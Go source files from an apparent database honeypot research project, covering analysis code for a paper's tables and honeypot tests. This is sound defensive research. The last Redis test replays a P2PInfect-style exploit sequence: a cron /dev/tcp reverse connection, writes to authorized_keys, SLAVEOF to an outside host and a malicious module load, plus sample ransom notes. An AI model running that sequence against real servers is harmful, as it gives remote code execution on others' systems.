func TestRetentionCDFMonotoneQuick(t *testing.T) {
	f := func(raw []uint8) bool {
		if len(raw) == 0 {
			return true
		}
		counts := make([]int, len(raw))
		for i, v := range raw {
			counts[i] = 1 + int(v)%20
		}
		cdf := RetentionCDF(counts, 20)
		prev := 0.0
		for d := 1; d <= 20; d++ {
			if cdf.At(d) < prev {
				return false
			}
			prev = cdf.At(d)
		}
		return math.Abs(cdf.At(20)-1) < 1e-9
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func addr(i int) netip.Addr {
	return netip.AddrFrom4([4]byte{198, 51, byte(i >> 8), byte(i)})
}

func rec(i int, country string, asType asdb.Type, per map[evstore.PerKey]*evstore.Activity) *evstore.IPRecord {
	return &evstore.IPRecord{Addr: addr(i), Country: country, ASType: asType, Per: per}
}

func lowKey(dbms, group string) evstore.PerKey {
	return evstore.PerKey{DBMS: dbms, Level: core.Low, Config: core.ConfigDefault, Group: group}
}

func medKey(dbms, config string) evstore.PerKey {
	return evstore.PerKey{DBMS: dbms, Level: core.Medium, Config: config, Group: core.GroupMedium}
}

func TestCountryLoginTable(t *testing.T) {
	recs := []*evstore.IPRecord{
		rec(1, "RU", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.MSSQL, core.GroupMulti): {Logins: 1000, ActiveDays: 1},
		}),
		rec(2, "RU", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.MSSQL, core.GroupMulti): {ActiveDays: 1}, // scanner, no logins
		}),
		rec(3, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.MySQL, core.GroupMulti): {Logins: 5, ActiveDays: 1},
		}),
		// Medium-tier only: excluded from the low-tier table.
		rec(4, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Postgres, core.ConfigDefault): {Logins: 50},
		}),
	}
	rows := CountryLoginTable(recs)
	if len(rows) != 2 {
		t.Fatalf("rows = %v", rows)
	}
	if rows[0].Country != "RU" || rows[0].Logins != 1000 || rows[0].LoginIPs != 1 || rows[0].TotalIPs != 2 {
		t.Fatalf("RU row = %+v", rows[0])
	}
	if rows[0].MSSQL != 1000 || rows[0].MySQL != 0 {
		t.Fatalf("RU split = %+v", rows[0])
	}
	if rows[1].Country != "US" || rows[1].MySQL != 5 || rows[1].TotalIPs != 1 {
		t.Fatalf("US row = %+v", rows[1])
	}
}

func TestTopASNs(t *testing.T) {
	mkRec := func(i int, asn uint32, logins int64) *evstore.IPRecord {
		r := rec(i, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.MSSQL, core.GroupMulti): {Logins: logins, ActiveDays: 1},
		})
		r.ASN = asn
		r.ASName = "AS"
		return r
	}
	recs := []*evstore.IPRecord{
		mkRec(1, 100, 0), mkRec(2, 100, 10), mkRec(3, 200, 5), mkRec(4, 0, 7),
	}
	rows := TopASNs(recs)
	if len(rows) != 2 {
		t.Fatalf("rows = %v", rows)
	}
	if rows[0].ASN != 100 || rows[0].IPs != 2 || rows[0].Logins != 10 {
		t.Fatalf("top AS = %+v", rows[0])
	}
	if math.Abs(rows[0].Pct-50) > 1e-9 {
		t.Fatalf("pct = %v", rows[0].Pct)
	}
}

func TestLoginIPsByASType(t *testing.T) {
	recs := []*evstore.IPRecord{
		rec(1, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.MSSQL, core.GroupMulti): {Logins: 3},
		}),
		rec(2, "CN", asdb.Telecom, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.MSSQL, core.GroupMulti): {Logins: 3},
		}),
		rec(3, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.MSSQL, core.GroupMulti): {},
		}),
	}
	got := LoginIPsByASType(recs)
	if got[asdb.Hosting] != 1 || got[asdb.Telecom] != 1 {
		t.Fatalf("by type = %v", got)
	}
}

func TestUpset(t *testing.T) {
	recs := []*evstore.IPRecord{
		rec(1, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Redis, core.ConfigDefault): {},
		}),
		rec(2, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Redis, core.ConfigDefault):    {},
			medKey(core.Postgres, core.ConfigDefault): {},
		}),
		rec(3, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Redis, core.ConfigDefault): {},
		}),
		// Low tier only: not in the upset at all.
		rec(4, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.Redis, core.GroupMulti): {},
		}),
	}
	rows := Upset(recs)
	if len(rows) != 2 {
		t.Fatalf("rows = %v", rows)
	}
	if rows[0].Combo != "redis" || rows[0].Count != 2 {
		t.Fatalf("top combo = %+v", rows[0])
	}
	if rows[1].Combo != "postgres+redis" || rows[1].Count != 1 {
		t.Fatalf("second combo = %+v", rows[1])
	}
}

func exploitAct() *evstore.Activity {
	return &evstore.Activity{Actions: []evstore.Action{{Name: "FLUSHALL"}}, ActiveDays: 0b111}
}

func TestExploiterCountries(t *testing.T) {
	recs := []*evstore.IPRecord{
		rec(1, "CN", asdb.Telecom, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Redis, core.ConfigDefault): exploitAct(),
		}),
		rec(2, "CN", asdb.Telecom, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Redis, core.ConfigDefault): exploitAct(),
		}),
		rec(3, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Redis, core.ConfigDefault): {Actions: []evstore.Action{{Name: "INFO"}}},
		}),
	}
	rows := ExploiterCountries(recs)
	if len(rows) != 1 || rows[0].Country != "CN" || rows[0].Total != 2 || rows[0].PerDBMS[core.Redis] != 2 {
		t.Fatalf("rows = %+v", rows)
	}
}

func TestBehaviorByASType(t *testing.T) {
	recs := []*evstore.IPRecord{
		// Scans two honeypot types: two scanning memberships.
		rec(1, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Redis, core.ConfigDefault):    {},
			medKey(core.Postgres, core.ConfigDefault): {},
		}),
		rec(2, "CN", asdb.Telecom, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Redis, core.ConfigDefault): exploitAct(),
		}),
	}
	got := BehaviorByASType(recs)
	if got[asdb.Hosting].Scanning != 2 {
		t.Fatalf("hosting = %+v", got[asdb.Hosting])
	}
	if got[asdb.Telecom].Exploiting != 1 {
		t.Fatalf("telecom = %+v", got[asdb.Telecom])
	}
}

func TestControlGroup(t *testing.T) {
	recs := []*evstore.IPRecord{
		// Both groups, logins only on multi.
		rec(1, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.MSSQL, core.GroupMulti):  {Logins: 10},
			lowKey(core.MSSQL, core.GroupSingle): {},
		}),
		// Both groups, logins only on single.
		rec(2, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.MSSQL, core.GroupMulti):  {},
			lowKey(core.MSSQL, core.GroupSingle): {Logins: 3},
		}),
		// Single only.
		rec(3, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.MySQL, core.GroupSingle): {},
		}),
	}
	st := ControlGroup(recs)
	if st.SingleIPs != 3 || st.MultiIPs != 2 || st.Overlap != 2 {
		t.Fatalf("stats = %+v", st)
	}
	if st.BruteMultiOnly != 1 || st.BruteSingleOnly != 1 {
		t.Fatalf("brute split = %+v", st)
	}
}

func TestConfigEffect(t *testing.T) {
	typeActs := func(n int) *evstore.Activity {
		a := &evstore.Activity{}
		for i := 0; i < n; i++ {
			a.Actions = append(a.Actions, evstore.Action{Name: "TYPE"})
		}
		return a
	}
	recs := []*evstore.IPRecord{
		rec(1, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Postgres, core.ConfigNoLogin): {Logins: 200},
			medKey(core.Postgres, core.ConfigDefault): {Logins: 90},
			medKey(core.Redis, core.ConfigFakeData):   typeActs(7),
			medKey(core.Redis, core.ConfigDefault):    typeActs(1),
		}),
	}
	ce := ConfigEffect(recs)
	if ce.PGRestrictedLogins != 200 || ce.PGOpenLogins != 90 {
		t.Fatalf("pg = %+v", ce)
	}
	if ce.RedisFakeTypeCmds != 7 || ce.RedisDefaultTypeCmds != 1 {
		t.Fatalf("redis = %+v", ce)
	}
}

func TestRansomDetection(t *testing.T) {
	highKey := evstore.PerKey{DBMS: core.MongoDB, Level: core.High, Config: core.ConfigFakeData, Group: core.GroupHigh}
	note1 := "doc=content=All your data is backed up. You must pay 0.0058 BTC to bc1qaaaa"
	note2 := "doc=content=Your DB has been back up. The only way of recovery is you must send 0.007 BTC"
	mkRansom := func(i int, note string) *evstore.IPRecord {
		return rec(i, "BG", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			highKey: {Actions: []evstore.Action{
				{Name: "LISTDATABASES"}, {Name: "FIND"}, {Name: "DELETE"},
				{Name: "INSERT", Raw: "db=customers cmd=insert coll=README " + note},
			}},
		})
	}
	recs := []*evstore.IPRecord{
		mkRansom(1, note1),
		mkRansom(2, note1),
		mkRansom(3, note2),
		// Benign insert without wipe: not ransom.
		rec(4, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			highKey: {Actions: []evstore.Action{{Name: "INSERT", Raw: "doc=content=hello BTC"}}},
		}),
	}
	st := Ransom(recs)
	if st.IPs != 3 || st.Templates != 2 || st.Notes != 3 {
		t.Fatalf("ransom stats = %+v", st)
	}
}

func TestInstitutionalShare(t *testing.T) {
	inst := rec(1, "US", asdb.Security, map[evstore.PerKey]*evstore.Activity{
		medKey(core.Elastic, core.ConfigDefault): {},
	})
	inst.Institutional = true
	plain := rec(2, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
		medKey(core.Elastic, core.ConfigDefault): {},
	})
	scout := rec(3, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
		medKey(core.Elastic, core.ConfigDefault): {Actions: []evstore.Action{{Name: "GET /_cat/indices"}}},
	})
	got := InstitutionalShare([]*evstore.IPRecord{inst, plain, scout})
	if v := got[core.Elastic]; v[0] != 1 || v[1] != 2 {
		t.Fatalf("share = %v", got)
	}
}

func TestMHRetentionByBehavior(t *testing.T) {
	recs := []*evstore.IPRecord{
		rec(1, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Redis, core.ConfigDefault): {ActiveDays: 0b1},
		}),
		rec(2, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			medKey(core.Redis, core.ConfigDefault): exploitAct(), // 3 days
		}),
	}
	got := MHRetentionByBehavior(recs)
	if len(got[classify.Scanning]) != 1 || got[classify.Scanning][0] != 1 {
		t.Fatalf("scanning = %v", got[classify.Scanning])
	}
	if len(got[classify.Exploiting]) != 1 || got[classify.Exploiting][0] != 3 {
		t.Fatalf("exploiting = %v", got[classify.Exploiting])
	}
}

func TestLowRetentionByDBMS(t *testing.T) {
	recs := []*evstore.IPRecord{
		rec(1, "US", asdb.Hosting, map[evstore.PerKey]*evstore.Activity{
			lowKey(core.MySQL, core.GroupMulti):  {ActiveDays: 0b11},
			lowKey(core.MySQL, core.GroupSingle): {ActiveDays: 0b100},
			lowKey(core.MSSQL, core.GroupMulti):  {ActiveDays: 0b1},
		}),
	}
	got := LowRetentionByDBMS(recs)
	if got[""][0] != 3 { // union of all masks
		t.Fatalf("overall = %v", got[""])
	}
	if got[core.MySQL][0] != 3 || got[core.MSSQL][0] != 1 {
		t.Fatalf("per dbms = %v", got)
	}
}

func TestBruteForceStats(t *testing.T) {
	s := evstore.New(core.ExperimentStart, 20, nil)
	mk := func(addr, user, pass string, n int) {
		for i := 0; i < n; i++ {
			s.Record(core.Event{
				Time: core.ExperimentStart,
				Src:  netip.AddrPortFrom(netip.MustParseAddr(addr), 1),
				Honeypot: core.Info{
					DBMS: core.MSSQL, Level: core.Low,
					Config: core.ConfigDefault, Group: core.GroupMulti,
				},
				Kind: core.EventLogin, User: user, Pass: pass,
			})
		}
	}
	mk("198.51.100.1", "sa", "123", 10)
	mk("198.51.100.1", "sa", "456", 5)
	mk("198.51.100.2", "admin", "123", 1)
	// A pure scanner contributes no brute stats.
	s.Record(core.Event{
		Time:     core.ExperimentStart,
		Src:      netip.AddrPortFrom(netip.MustParseAddr("198.51.100.3"), 1),
		Honeypot: core.Info{DBMS: core.MSSQL, Level: core.Low, Config: core.ConfigDefault, Group: core.GroupMulti},
		Kind:     core.EventConnect,
	})

	st := BruteForce(s.Snapshot())
	if st.TotalLogins != 16 || st.Clients != 2 {
		t.Fatalf("stats = %+v", st)
	}
	if st.UniqueCombos != 3 || st.UniqueUsers != 2 || st.UniquePasses != 2 {
		t.Fatalf("uniques = %+v", st)
	}
	if st.AvgPerClient != 8 {
		t.Fatalf("avg = %v", st.AvgPerClient)
	}
	if st.HeaviestIPLogins != 15 {
		t.Fatalf("heaviest = %+v", st)
	}
}
