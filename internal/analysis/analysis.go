// Package analysis computes the aggregate views behind the paper's tables
// and figures: retention CDFs, upset intersections, country/AS login
// tables, behaviour matrices and brute-force statistics. Each function
// takes evstore records and returns plain data the experiments render.
package analysis

import (
	"sort"
	"strings"

	"decoydb/internal/asdb"
	"decoydb/internal/classify"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
)

// --- Retention (Figures 3 and 5) ---

// CDF is an empirical distribution over active-day counts: CDF[d] is the
// fraction of the population active on at most d+1 days.
type CDF []float64

// RetentionCDF builds the CDF for a set of day counts over maxDays.
func RetentionCDF(dayCounts []int, maxDays int) CDF {
	out := make(CDF, maxDays)
	if len(dayCounts) == 0 {
		return out
	}
	hist := make([]int, maxDays+1)
	for _, d := range dayCounts {
		if d < 1 {
			d = 1
		}
		if d > maxDays {
			d = maxDays
		}
		hist[d]++
	}
	cum := 0
	for d := 1; d <= maxDays; d++ {
		cum += hist[d]
		out[d-1] = float64(cum) / float64(len(dayCounts))
	}
	return out
}

// At returns the CDF value at day d (1-based).
func (c CDF) At(d int) float64 {
	if d < 1 || d > len(c) {
		return 0
	}
	return c[d-1]
}

// LowRetentionByDBMS returns per-DBMS day-count samples for the low tier
// (Figure 3), keyed by DBMS name, plus the overall sample under "".
func LowRetentionByDBMS(recs []*evstore.IPRecord) map[string][]int {
	out := map[string][]int{}
	for _, r := range recs {
		overall := uint64(0)
		perDBMS := map[string]uint64{}
		for k, a := range r.Per {
			if k.Level != core.Low {
				continue
			}
			overall |= a.ActiveDays
			perDBMS[k.DBMS] |= a.ActiveDays
		}
		if overall != 0 {
			out[""] = append(out[""], popcount(overall))
			for dbms, m := range perDBMS {
				out[dbms] = append(out[dbms], popcount(m))
			}
		}
	}
	return out
}

// MHRetentionByBehavior returns day-count samples per behaviour class on
// the medium/high tier (Figure 5).
func MHRetentionByBehavior(recs []*evstore.IPRecord) map[classify.Behavior][]int {
	out := map[classify.Behavior][]int{}
	for _, r := range recs {
		mask := r.ActiveDaysMask(classify.MediumHigh)
		if mask == 0 {
			continue
		}
		b := classify.IP(r, classify.MediumHigh)
		out[b] = append(out[b], popcount(mask))
	}
	return out
}

func popcount(m uint64) int {
	n := 0
	for ; m != 0; m &= m - 1 {
		n++
	}
	return n
}

// --- Upset intersections (Figure 4) ---

// UpsetRow is one intersection bucket: the exact set of medium/high
// honeypot types an IP contacted, and how many IPs share it.
type UpsetRow struct {
	Combo string // "+"-joined sorted DBMS names
	Count int
}

// Upset computes exact-combination intersections of medium/high honeypot
// membership, largest first.
func Upset(recs []*evstore.IPRecord) []UpsetRow {
	counts := map[string]int{}
	for _, r := range recs {
		set := map[string]bool{}
		for k := range r.Per {
			if k.Level >= core.Medium {
				set[k.DBMS] = true
			}
		}
		if len(set) == 0 {
			continue
		}
		names := make([]string, 0, len(set))
		for d := range set {
			names = append(names, d)
		}
		sort.Strings(names)
		counts[strings.Join(names, "+")]++
	}
	out := make([]UpsetRow, 0, len(counts))
	for c, n := range counts {
		out = append(out, UpsetRow{Combo: c, Count: n})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].Combo < out[j].Combo
	})
	return out
}

// --- Login tables (Tables 5, 6, 7) ---

// lowLogins sums low-tier login attempts per DBMS for one record.
func lowLogins(r *evstore.IPRecord) map[string]int64 {
	out := map[string]int64{}
	for k, a := range r.Per {
		if k.Level == core.Low && a.Logins > 0 {
			out[k.DBMS] += a.Logins
		}
	}
	return out
}

// CountryRow is one row of the paper's Table 5.
type CountryRow struct {
	Country  string
	Logins   int64
	LoginIPs int
	TotalIPs int
	MySQL    int64
	PSQL     int64
	MSSQL    int64
}

// CountryLoginTable aggregates low-tier logins by source country, sorted
// by descending login volume.
func CountryLoginTable(recs []*evstore.IPRecord) []CountryRow {
	rows := map[string]*CountryRow{}
	get := func(c string) *CountryRow {
		if c == "" {
			c = "??"
		}
		row, ok := rows[c]
		if !ok {
			row = &CountryRow{Country: c}
			rows[c] = row
		}
		return row
	}
	for _, r := range recs {
		onLow := false
		for k := range r.Per {
			if k.Level == core.Low {
				onLow = true
				break
			}
		}
		if !onLow {
			continue
		}
		row := get(r.Country)
		row.TotalIPs++
		ll := lowLogins(r)
		if len(ll) == 0 {
			continue
		}
		row.LoginIPs++
		for dbms, n := range ll {
			row.Logins += n
			switch dbms {
			case core.MySQL:
				row.MySQL += n
			case core.Postgres:
				row.PSQL += n
			case core.MSSQL:
				row.MSSQL += n
			}
		}
	}
	out := make([]CountryRow, 0, len(rows))
	for _, r := range rows {
		out = append(out, *r)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Logins != out[j].Logins {
			return out[i].Logins > out[j].Logins
		}
		return out[i].Country < out[j].Country
	})
	return out
}

// ASRow is one row of the paper's Table 6.
type ASRow struct {
	ASN    uint32
	Name   string
	IPs    int
	Pct    float64 // share of all low-tier IPs
	Logins int64
	MySQL  int64
	MSSQL  int64
}

// TopASNs aggregates low-tier sources by AS, sorted by descending IP
// count. Unmapped sources (ASN 0) are excluded, as in the paper.
func TopASNs(recs []*evstore.IPRecord) []ASRow {
	rows := map[uint32]*ASRow{}
	total := 0
	for _, r := range recs {
		onLow := false
		for k := range r.Per {
			if k.Level == core.Low {
				onLow = true
				break
			}
		}
		if !onLow {
			continue
		}
		total++
		if r.ASN == 0 {
			continue
		}
		row, ok := rows[r.ASN]
		if !ok {
			row = &ASRow{ASN: r.ASN, Name: r.ASName}
			rows[r.ASN] = row
		}
		row.IPs++
		for dbms, n := range lowLogins(r) {
			row.Logins += n
			switch dbms {
			case core.MySQL:
				row.MySQL += n
			case core.MSSQL:
				row.MSSQL += n
			}
		}
	}
	out := make([]ASRow, 0, len(rows))
	for _, r := range rows {
		if total > 0 {
			r.Pct = 100 * float64(r.IPs) / float64(total)
		}
		out = append(out, *r)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].IPs != out[j].IPs {
			return out[i].IPs > out[j].IPs
		}
		return out[i].ASN < out[j].ASN
	})
	return out
}

// LoginIPsByASType counts brute-forcing sources per AS organisation type
// (Table 7).
func LoginIPsByASType(recs []*evstore.IPRecord) map[asdb.Type]int {
	out := map[asdb.Type]int{}
	for _, r := range recs {
		if len(lowLogins(r)) == 0 {
			continue
		}
		out[r.ASType]++
	}
	return out
}

// --- Behaviour matrices (Tables 10 and 11) ---

// MHDBMSes lists the medium/high honeypot types in display order.
var MHDBMSes = []string{core.Elastic, core.MongoDB, core.Postgres, core.Redis}

// ExploiterCountryRow is one row of the paper's Table 10.
type ExploiterCountryRow struct {
	Country string
	Total   int
	PerDBMS map[string]int
}

// ExploiterCountries counts exploiting sources by country and target
// honeypot, sorted by descending total.
func ExploiterCountries(recs []*evstore.IPRecord) []ExploiterCountryRow {
	rows := map[string]*ExploiterCountryRow{}
	for _, r := range recs {
		counted := false
		for _, dbms := range MHDBMSes {
			if classify.IP(r, classify.ForDBMS(dbms)) != classify.Exploiting {
				continue
			}
			c := r.Country
			if c == "" {
				c = "??"
			}
			row, ok := rows[c]
			if !ok {
				row = &ExploiterCountryRow{Country: c, PerDBMS: map[string]int{}}
				rows[c] = row
			}
			row.PerDBMS[dbms]++
			if !counted {
				row.Total++
				counted = true
			}
		}
	}
	out := make([]ExploiterCountryRow, 0, len(rows))
	for _, r := range rows {
		out = append(out, *r)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Total != out[j].Total {
			return out[i].Total > out[j].Total
		}
		return out[i].Country < out[j].Country
	})
	return out
}

// BehaviorByASType counts per-honeypot behaviour memberships by AS type
// (Table 11): an IP scanning two honeypot types contributes two scanning
// memberships.
func BehaviorByASType(recs []*evstore.IPRecord) map[asdb.Type]*classify.Counts {
	out := map[asdb.Type]*classify.Counts{}
	for _, r := range recs {
		for _, dbms := range MHDBMSes {
			q := classify.ForDBMS(dbms)
			touched := false
			for k := range r.Per {
				if q.MatchKey(k) {
					touched = true
					break
				}
			}
			if !touched {
				continue
			}
			c, ok := out[r.ASType]
			if !ok {
				c = &classify.Counts{}
				out[r.ASType] = c
			}
			c.IPs++
			switch classify.IP(r, q) {
			case classify.Scanning:
				c.Scanning++
			case classify.Scouting:
				c.Scouting++
			case classify.Exploiting:
				c.Exploiting++
			}
		}
	}
	return out
}

// --- Brute-force statistics (Section 5 prose) ---

// BruteStats summarises low-tier brute-force behaviour.
type BruteStats struct {
	TotalLogins       int64
	Clients           int
	AvgPerClient      float64
	UniqueCombos      int
	UniqueUsers       int
	UniquePasses      int
	HeaviestIPLogins  int64
	HeaviestIPCountry string
}

// BruteForce computes the Section 5 statistics over the low tier of a
// dataset snapshot.
func BruteForce(snap *evstore.Snapshot) BruteStats {
	var st BruteStats
	users := map[string]bool{}
	passes := map[string]bool{}
	for _, c := range snap.Creds(evstore.Query{Tier: evstore.LowTier}) {
		st.UniqueCombos++
		st.TotalLogins += c.Count
		users[c.User] = true
		passes[c.Pass] = true
	}
	st.UniqueUsers = len(users)
	st.UniquePasses = len(passes)
	for _, r := range snap.Recs() {
		var n int64
		for _, v := range lowLogins(r) {
			n += v
		}
		if n == 0 {
			continue
		}
		st.Clients++
		if n > st.HeaviestIPLogins {
			st.HeaviestIPLogins = n
			st.HeaviestIPCountry = r.Country
		}
	}
	if st.Clients > 0 {
		st.AvgPerClient = float64(st.TotalLogins) / float64(st.Clients)
	}
	return st
}

// --- Control group (Section 5 multi- vs single-service hosts) ---

// ControlGroupStats reproduces the multi/single instance comparison.
type ControlGroupStats struct {
	SingleIPs       int
	MultiIPs        int
	Overlap         int
	BruteSingleOnly int
	BruteMultiOnly  int
}

// ControlGroup computes the split over low-tier records.
func ControlGroup(recs []*evstore.IPRecord) ControlGroupStats {
	var st ControlGroupStats
	for _, r := range recs {
		var onSingle, onMulti bool
		var loginSingle, loginMulti bool
		for k, a := range r.Per {
			if k.Level != core.Low {
				continue
			}
			switch k.Group {
			case core.GroupSingle:
				onSingle = true
				if a.Logins > 0 {
					loginSingle = true
				}
			case core.GroupMulti:
				onMulti = true
				if a.Logins > 0 {
					loginMulti = true
				}
			}
		}
		if onSingle {
			st.SingleIPs++
		}
		if onMulti {
			st.MultiIPs++
		}
		if onSingle && onMulti {
			st.Overlap++
			if loginSingle && !loginMulti {
				st.BruteSingleOnly++
			}
			if loginMulti && !loginSingle {
				st.BruteMultiOnly++
			}
		}
	}
	return st
}

// --- Configuration effects (Section 6 prose) ---

// ConfigEffects captures the medium-tier configuration comparisons.
type ConfigEffects struct {
	PGRestrictedLogins   int64
	PGOpenLogins         int64
	RedisFakeTypeCmds    int64
	RedisDefaultTypeCmds int64
}

// ConfigEffect computes the per-configuration activity split.
func ConfigEffect(recs []*evstore.IPRecord) ConfigEffects {
	var ce ConfigEffects
	for _, r := range recs {
		for k, a := range r.Per {
			if k.Level != core.Medium {
				continue
			}
			switch {
			case k.DBMS == core.Postgres && k.Config == core.ConfigNoLogin:
				ce.PGRestrictedLogins += a.Logins
			case k.DBMS == core.Postgres && k.Config == core.ConfigDefault:
				ce.PGOpenLogins += a.Logins
			case k.DBMS == core.Redis:
				var types int64
				for _, act := range a.Actions {
					if act.Name == "TYPE" {
						types++
					}
				}
				if k.Config == core.ConfigFakeData {
					ce.RedisFakeTypeCmds += types
				} else {
					ce.RedisDefaultTypeCmds += types
				}
			}
		}
	}
	return ce
}

// --- Ransom analysis (Section 6.3) ---

// RansomStats summarises the MongoDB data-theft campaign observations.
type RansomStats struct {
	IPs       int
	Templates int
	Notes     int64
}

// Ransom detects ransom behaviour on MongoDB records: the wipe-and-insert
// pattern, grouped into note templates by their leading words.
func Ransom(recs []*evstore.IPRecord) RansomStats {
	var st RansomStats
	templates := map[string]bool{}
	for _, r := range recs {
		isRansom := false
		for k, a := range r.Per {
			if k.DBMS != core.MongoDB {
				continue
			}
			var sawDelete bool
			for _, act := range a.Actions {
				switch act.Name {
				case "DELETE":
					sawDelete = true
				case "INSERT":
					if !sawDelete {
						continue
					}
					if i := strings.Index(act.Raw, "doc="); i >= 0 {
						note := act.Raw[i+4:]
						if strings.Contains(note, "BTC") {
							isRansom = true
							st.Notes++
							templates[noteTemplate(note)] = true
						}
					}
				}
			}
		}
		if isRansom {
			st.IPs++
		}
	}
	st.Templates = len(templates)
	return st
}

// noteTemplate keys a ransom note by its opening words, which is how the
// paper distinguished the two groups.
func noteTemplate(note string) string {
	words := strings.Fields(note)
	if len(words) > 6 {
		words = words[:6]
	}
	return strings.Join(words, " ")
}

// --- Institutional scanners (Section 6.1) ---

// InstitutionalShare reports, per medium/high DBMS, how many scanning-
// classified sources are on the institutional list.
func InstitutionalShare(recs []*evstore.IPRecord) map[string][2]int {
	out := map[string][2]int{}
	for _, r := range recs {
		for _, dbms := range MHDBMSes {
			q := classify.ForDBMS(dbms)
			touched := false
			for k := range r.Per {
				if q.MatchKey(k) {
					touched = true
					break
				}
			}
			if !touched || classify.IP(r, q) != classify.Scanning {
				continue
			}
			v := out[dbms]
			v[1]++
			if r.Institutional {
				v[0]++
			}
			out[dbms] = v
		}
	}
	return out
}
