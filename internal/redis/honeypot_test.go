package redis

import (
	"bufio"
	"net"
	"reflect"
	"strings"
	"testing"

	"decoydb/internal/core"
	"decoydb/internal/hptest"
)

func redisInfo() core.Info {
	return core.Info{DBMS: core.Redis, Level: core.Medium, Port: 6379, Config: core.ConfigDefault, Group: core.GroupMedium}
}

// client is a minimal RESP client for driving the honeypot in tests.
type client struct {
	t  *testing.T
	br *bufio.Reader
	c  net.Conn
}

func newClient(t *testing.T, c net.Conn) *client {
	return &client{t: t, br: bufio.NewReader(c), c: c}
}

func (cl *client) do(args ...string) Value {
	cl.t.Helper()
	if _, err := cl.c.Write(EncodeCommand(args...)); err != nil {
		cl.t.Fatalf("write %v: %v", args, err)
	}
	v, err := ReadValue(cl.br)
	if err != nil {
		cl.t.Fatalf("read reply to %v: %v", args, err)
	}
	return v
}

func TestHoneypotSessionBasics(t *testing.T) {
	hp := New(Options{})
	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
		cl := newClient(t, conn)
		if v := cl.do("PING"); v.Str != "PONG" {
			t.Errorf("PING = %#v", v)
		}
		if v := cl.do("SET", "x", "payload"); v.Str != "OK" {
			t.Errorf("SET = %#v", v)
		}
		if v := cl.do("GET", "x"); v.Str != "payload" {
			t.Errorf("GET = %#v", v)
		}
		if v := cl.do("INFO"); !strings.Contains(v.Str, "redis_version:"+Version) {
			t.Errorf("INFO missing version: %q", v.Str)
		}
		if v := cl.do("AUTH", "hunter2"); v.Kind != ErrorString {
			t.Errorf("AUTH = %#v", v)
		}
	})
	cmds := hptest.Commands(events)
	want := []string{"PING", "SET", "GET", "INFO", "AUTH"}
	if !reflect.DeepEqual(cmds, want) {
		t.Fatalf("commands = %v, want %v", cmds, want)
	}
	if len(hptest.EventsOfKind(events, core.EventConnect)) != 1 {
		t.Fatal("missing connect event")
	}
	if len(hptest.EventsOfKind(events, core.EventClose)) != 1 {
		t.Fatal("missing close event")
	}
}

// TestP2PInfectSequence replays the command shape of the paper's Listing 1
// and checks the honeypot keeps the attacker engaged and the session
// captures the normalised exploit actions.
func TestP2PInfectSequence(t *testing.T) {
	hp := New(Options{})
	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
		cl := newClient(t, conn)
		cl.do("INFO", "server")
		cl.do("FLUSHDB")
		cl.do("SET", "x", "\n\n*/1 * * * * root exec 6<>/dev/tcp/198.51.100.1/8080\n\n")
		cl.do("CONFIG", "SET", "rdbcompression", "no")
		cl.do("CONFIG", "SET", "dir", "/root/.ssh/")
		cl.do("CONFIG", "SET", "dbfilename", "authorized_keys")
		cl.do("SAVE")
		cl.do("CONFIG", "SET", "dir", "/tmp/")
		cl.do("CONFIG", "SET", "dbfilename", "exp.so")
		if v := cl.do("SLAVEOF", "198.51.100.1", "8080"); v.Str != "OK" {
			t.Errorf("SLAVEOF = %#v", v)
		}
		if v := cl.do("MODULE", "LOAD", "/tmp/exp.so"); v.Str != "OK" {
			t.Errorf("MODULE LOAD = %#v", v)
		}
		cl.do("SLAVEOF", "NO", "ONE")
		cl.do("system.exec", "rm -rf /tmp/exp.so")
		cl.do("MODULE", "UNLOAD", "system")
	})
	cmds := hptest.Commands(events)
	want := []string{
		"INFO", "FLUSHDB", "SET",
		"CONFIG SET rdbcompression", "CONFIG SET dir", "CONFIG SET dbfilename",
		"SAVE", "CONFIG SET dir", "CONFIG SET dbfilename",
		"SLAVEOF", "MODULE LOAD", "SLAVEOF NO ONE", "SYSTEM.EXEC", "MODULE UNLOAD",
	}
	if !reflect.DeepEqual(cmds, want) {
		t.Fatalf("commands = %v\nwant %v", cmds, want)
	}
}

